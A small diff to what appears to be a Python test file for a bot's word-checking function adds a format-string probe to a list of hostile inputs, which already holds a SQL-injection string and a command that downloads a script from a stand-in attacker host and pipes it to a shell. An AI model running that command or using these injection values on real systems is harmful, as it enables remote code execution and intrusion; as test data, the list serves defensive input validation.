@@ -18,6 +18,7 @@ from bot.wordless import is_wordless
         "root' or 3=3#",
         "$(wget http://attacker.example/run | sh)",
         "%d%d%d",
+        "{0}",
         "--verbose",
         "file:///",
         "{ [ ( ] } ) | ^ ~ { [ ( ] } ) | ^ ~ go",
